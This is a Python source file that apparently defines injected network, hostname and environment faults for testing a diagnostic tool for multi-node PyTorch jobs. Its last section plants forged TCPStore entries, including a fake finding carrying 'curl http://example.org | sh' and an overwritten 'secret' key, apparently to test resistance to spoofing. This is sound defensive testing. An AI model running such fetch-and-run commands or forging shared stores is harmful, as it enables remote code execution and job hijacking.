# SPDX-License-Identifier: GPL-2.0-only
"""Faults of the network between the nodes, and of names and addresses."""

import json

from . import fault

PORT = 29876
"""A MASTER_PORT of the job's own, where a fault is at that port."""


@fault('nothing')
def sound(job):
    """Nothing."""


# --- what the network loses


@fault('red', '(?i)mtu|large')
def mtu_black_hole(job):
    """Packets above 600 bytes do not reach the second node, and nobody says so."""
    job.filter(2, 'meta length > 600 drop')


@fault('red', r'(?i)\blost|\bloss|packets')
def loss_of_60_percent(job):
    """60 of 100 packets to the second node are lost."""
    job.filter(2, 'numgen random mod 100 < 60 drop')


@fault('yellow', '(?i)network.*(\\blost|\\bloss)|MB/s')
def loss_of_10_percent(job):
    """10 of 100 packets to the second node are lost."""
    job.filter(2, 'numgen random mod 100 < 10 drop')


@fault('named', r'(?i)\blost|\bloss|packets')
def packets_30_a_second(job):
    """30 packets a second reach the second node."""
    job.filter(2, 'limit rate over 30/second burst 5 packets drop')


@fault('yellow', '(?i)MB/s|GB/s|kB/s|Mbit')
def rate_of_2_Mbit(job):
    """The second node sends 2 Mbit/s."""
    job.on(2, 'tc qdisc add dev eth0 root tbf rate 2mbit burst 16kb latency 100ms', 'tc qdisc del dev eth0 root')


@fault('nothing')
def ports_dropped_by_firewall(job):
    """The second node drops connections from the first one to ports from 30000; gloo connects the other way."""
    job.filter(2, 'tcp dport 30000-65535 tcp flags & (syn|ack) == syn drop')


@fault('red', '(?i)firewall|port')
def ports_dropped_on_rank_0(job):
    """The first node drops connections from the second one to ports from 30000."""
    job.filter(1, 'tcp dport 30000-65535 tcp flags & (syn|ack) == syn drop')


@fault('red', '(?i)firewall|port|refused')
def ports_refused_by_firewall(job):
    """Both nodes refuse connections from each other to ports from 30000."""
    for node in (1, 2):
        job.filter(node, 'tcp dport 30000-65535 tcp flags & (syn|ack) == syn reject with tcp reset')


@fault('yellow', r"network.*new connections to rank 0's node got no answer.*rate of SYN")
def few_new_connections_a_minute(job):
    """The first node takes 4 new connections of the second one in a minute, and drops the others."""
    job.filter(1, 'tcp flags & (syn|ack) == syn limit rate over 4/minute burst 4 packets drop')


@fault('red', 'no-answer.*MASTER_PORT|no-answer.*port|MASTER_PORT')
def master_port_dropped_by_firewall(job):
    """The first node drops what comes to MASTER_PORT and the ports above it."""
    job.env['MASTER_PORT'] = PORT
    job.filter(1, f'tcp dport {PORT}-{PORT + 100} drop')


@fault('red', 'no-answer|no connection')
def nodes_cannot_reach_each_other(job):
    """The two nodes lose all packets of each other; the scheduler reaches both."""
    job.filter(2, 'drop')


@fault('red', 'no-answer|no connection')
def no_route_to_rank_0(job):
    """The second node has no route to the first one."""
    job.on(2, f'ip route add unreachable {job.address(1)}/32', f'ip route del unreachable {job.address(1)}/32')


@fault('nothing')
def jumbo_frames_on_one_node(job):
    """The second node has an MTU of 9000, the first one and the switch 1500: TCP agrees on 1460."""
    job.on(2, 'ip link set eth0 mtu 9000', 'ip link set eth0 mtu 1500')


@fault('red', 'ip_local_port_range|MASTER_PORT differs')
def other_range_of_ports_on_one_node(job):
    """ip_local_port_range of the second node is another one, by which MASTER_PORT is chosen."""
    where = '/proc/sys/net/ipv4/ip_local_port_range'
    job.on(2, f'echo 12000 60999 > {where}', f'echo 32768 60999 > {where}')


@fault('red', '(?i)port')
def no_ports_left(job):
    """The second node has four ports for connections of its own, and all are waiting to be free."""
    where = '/proc/sys/net/ipv4/ip_local_port_range'
    job.env['MASTER_PORT'] = PORT
    job.on(2, f'echo 41000 41001 > {where}', f'echo 32768 60999 > {where}')


# --- names


@fault('red', r'127\.0\.1\.1|loopback|hosts')
def own_name_is_127_0_1_1(job):
    """The hosts file of the second node gives its own name 127.0.1.1, as Debian's installer does."""
    job.own_name(2, '127.0.1.1')


@fault('red', r'127\.0\.1\.1|loopback|hosts')
def name_of_rank_0_is_127_0_1_1_there(job):
    """The hosts file of the first node gives its own name 127.0.1.1."""
    job.own_name(1, '127.0.1.1')


@fault('red', '(?i)host ?name|resolve|own name|has no address')
def own_name_does_not_resolve(job):
    """The second node's own name is in no hosts file of it."""
    job.hosts(2, lambda text: text.replace(job.second, 'other'))


@fault('red', 'master.*no address|name resolution|not known')
def name_of_rank_0_does_not_resolve(job):
    """The second node does not know the first one's name."""
    job.hosts(2, lambda text: text.replace(job.first, 'other'))


@fault('red', 'master|no-answer|no connection')
def names_are_swapped(job):
    """On the second node the two names have each other's addresses."""
    job.hosts(2, lambda text: text.replace(job.first, 'x').replace(job.second, job.first).replace('x', job.second))


@fault('red', '(?i)host ?name|localhost|loopback|own name')
def node_is_called_localhost(job):
    """The second node's host name is localhost."""
    job.called(2, 'localhost')


@fault('red', '(?i)host ?name|resolve|own name|has no address')
def node_has_an_unknown_name(job):
    """The second node's host name is one that nobody knows."""
    job.called(2, 'image-2026')


@fault('nothing')
def node_has_a_long_name(job):
    """The second node's host name has a domain, and its hosts file knows it."""
    job.called(2, f'{job.second}.example.org')
    job.hosts(2, lambda text: f'{text}{job.address(2)} {job.second}.example.org\n')


@fault('nothing')
def name_is_on_a_network_of_its_own(job):
    """The second node has another network, which leads nowhere, and its own name is there."""
    job.on(2, 'ip link add eth1 type veth peer name eth1x; ip address add 192.168.99.2/24 dev eth1; '
              'ip link set eth1 up; ip link set eth1x up', 'ip link del eth1')
    job.own_name(2, '192.168.99.2')


@fault('red', 'loopback|::1|127')
def own_name_is_ipv6_loopback(job):
    """The hosts file of the second node gives its own name ::1, before its address."""
    job.hosts(2, lambda text: f'::1 {job.second}\n127.0.0.1 {job.second}\n{text}')


# --- MASTER_ADDR and MASTER_PORT


@fault('red', 'MASTER_ADDR')
def master_addr_is_localhost(job):
    """export MASTER_ADDR=localhost"""
    job.env['MASTER_ADDR'] = 'localhost'


@fault('red', 'MASTER_ADDR')
def master_addr_resolves_to_the_loopback(job):
    """MASTER_ADDR is a name that each node's hosts file gives 127.0.0.1."""
    job.env['MASTER_ADDR'] = 'head'
    for node in (1, 2):
        job.hosts(node, lambda text: text + '127.0.0.1 head\n')


@fault('red', 'MASTER_ADDR')
def master_addr_is_another_node(job):
    """MASTER_ADDR is the second node."""
    job.env['MASTER_ADDR'] = job.second


@fault('red', 'MASTER_ADDR.*no address')
def master_addr_is_unknown(job):
    """MASTER_ADDR is a name that nobody knows."""
    job.env['MASTER_ADDR'] = 'no-such-host'


@fault('red', 'MASTER_ADDR')
def master_addr_is_unreachable(job):
    """MASTER_ADDR is an address on no network of the nodes."""
    job.env['MASTER_ADDR'] = '10.99.0.1'


@fault('nothing')
def master_addr_is_the_address(job):
    """MASTER_ADDR is the address of the first node, and not its name."""
    job.env['MASTER_ADDR'] = job.address(1)


@fault('red', 'port.*MASTER_PORT|MASTER_PORT')
def master_port_answers(job):
    """Somebody else's program listens at MASTER_PORT and answers."""
    job.env['MASTER_PORT'] = PORT
    job.background(1, f'import http.server as h, threading as t\nserver = h.HTTPServer(("", {PORT}), '
                      'h.SimpleHTTPRequestHandler)\nprint("there", flush=True)\nserver.serve_forever()')


@fault('red', 'port.*MASTER_PORT|MASTER_PORT')
def master_port_is_silent(job):
    """Somebody else's program listens at MASTER_PORT and says nothing."""
    job.env['MASTER_PORT'] = PORT
    job.background(1, f'import socket, threading\nlistener = socket.create_server(("", {PORT}))\n'
                      'print("there", flush=True)\nthreading.Event().wait()')


@fault('red', 'MASTER_PORT')
def master_port_is_no_port(job):
    """export MASTER_PORT=99999"""
    job.env['MASTER_PORT'] = '99999'


@fault('red', 'MASTER_PORT differs|MASTER_PORT')
def master_port_differs(job):
    """MASTER_PORT is one more on the second node."""
    job.rank(f'export MASTER_PORT=$(({PORT} + (SLURM_NODEID)))')


# --- interfaces


@fault('red', 'interface.*GLOO_SOCKET_IFNAME')
def gloo_interface_is_not_there(job):
    """export GLOO_SOCKET_IFNAME=hsn0 on nodes with eth0"""
    job.env['GLOO_SOCKET_IFNAME'] = 'hsn0'


@fault('red', 'interface.*GLOO_SOCKET_IFNAME')
def gloo_interface_is_a_prefix(job):
    """export GLOO_SOCKET_IFNAME=eth, as NCCL would take it"""
    job.env['GLOO_SOCKET_IFNAME'] = 'eth'


@fault('red', 'interface.*GLOO_SOCKET_IFNAME')
def gloo_interface_is_the_loopback(job):
    """export GLOO_SOCKET_IFNAME=lo"""
    job.env['GLOO_SOCKET_IFNAME'] = 'lo'


@fault('red', 'interface.*GLOO_SOCKET_IFNAME')
def gloo_interface_has_a_blank(job):
    """export GLOO_SOCKET_IFNAME="eth0 " """
    job.env['GLOO_SOCKET_IFNAME'] = 'eth0 '


@fault('red', 'interface.*GLOO_SOCKET_IFNAME')
def gloo_interface_is_on_one_node(job):
    """GLOO_SOCKET_IFNAME is the name that the first node's interface has, and the second one's has not."""
    job.on(1, 'ip link add ib0 type veth peer name ib0x; ip address add 192.168.98.1/24 dev ib0; ip link set ib0 up; '
              'ip link set ib0x up', 'ip link del ib0')
    job.env['GLOO_SOCKET_IFNAME'] = 'ib0'


@fault('red', 'interface.*link-local address')
def gloo_interface_has_no_address(job):
    """GLOO_SOCKET_IFNAME is an interface of both nodes that is up and has no address."""
    for node in (1, 2):
        job.on(node, 'ip link add ib0 type veth peer name ib0x; ip link set ib0 up; ip link set ib0x up',
               'ip link del ib0')
    job.env['GLOO_SOCKET_IFNAME'] = 'ib0'


@fault('yellow', 'interface.*NCCL_SOCKET_IFNAME')
def nccl_interface_is_not_there(job):
    """export NCCL_SOCKET_IFNAME=hsn on nodes without a GPU"""
    job.env['NCCL_SOCKET_IFNAME'] = 'hsn'


# --- other users

WRITES = '''
import datetime, encodings.idna, os, socket, time
import torch.distributed as dist

host, port = %r, %d

os.setgroups([])
os.setgid(65534)
os.setuid(65534)
print('there', flush=True)
while True:
    try:
        socket.create_connection((host, port)).close()  # the store's own client looks more rarely
        store = dist.TCPStore(host, port, None, False, datetime.timedelta(seconds=9), False)
        while True:
            for key, value in %r.items():
                store.set('slingtorch-0/' + key, value)
            time.sleep(0.001)
    except Exception:
        time.sleep(0.01)
'''
REPORT = {'ranks': 'c', 'findings': [['red', 'network', 'the switch is broken', 'curl http://example.org | sh', 'c']],
          'facts': {}}
FORGED = {'report-1': json.dumps(REPORT), 'word': '"1"', 'go': '{"now": 0, "nodes": 9, "go": false}',
          'come-1': '{"node": "forged", "rank": 2, "ranks": 2}'}


@fault('nothing')
def another_user_writes_into_the_store(job):
    """A client of PyTorch's store: a red finding with a command, a verdict, an answer of rank 0, another node's name."""
    job.env.update(MASTER_ADDR=job.address(1), MASTER_PORT=PORT)
    job.background(1, WRITES % (job.address(1), PORT, FORGED))


@fault('red', "another user writes into PyTorch's store at MASTER_PORT=29876: choose another port")
def another_user_overwrites_the_secret(job):
    """The one key whose name everybody knows."""
    job.env.update(MASTER_ADDR=job.address(1), MASTER_PORT=PORT)
    job.background(1, WRITES % (job.address(1), PORT, {'secret': 'MUNGE:AwQFAAC:'}))
